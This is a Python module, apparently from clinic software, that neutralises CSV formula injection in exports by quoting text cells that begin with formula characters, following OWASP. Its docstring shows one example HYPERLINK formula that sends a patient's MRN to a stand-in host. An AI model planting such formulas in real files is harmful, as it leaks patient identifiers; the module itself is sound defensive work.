"""What leaves the clinic as a file: every CSV a screen or a command hands out.

A cell a spreadsheet reads as a formula runs when the file is opened: a patient
named ``=HYPERLINK("http://x?"&A2,"call")`` sends the next cell's MRN away. So every
CSV is written here, and a text cell that starts like a formula (``=``, ``+``,
``-``, ``@``, a tab or a carriage return) gets a leading single quote, as OWASP's
"CSV Injection" page advises; the spreadsheet then shows it as the text it was.
Numbers stay numbers: ``-3`` in a count column is data, not a formula.
"""

from __future__ import annotations

import pandas as pd

# OWASP, CSV Injection: the characters a cell must not begin with.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula;
    anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names cannot start a formula."""
    safe = frame.rename(columns=spreadsheet_text)
    for column in safe.columns:
        series = safe[column]
        if pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series):
            safe[column] = series.map(spreadsheet_text)
    return safe


def csv_text(*, frame: pd.DataFrame) -> str:
    """``frame`` as CSV text for a spreadsheet, safe to open: the only CSV writer of exports."""
    return spreadsheet_safe(frame).to_csv(index=False)
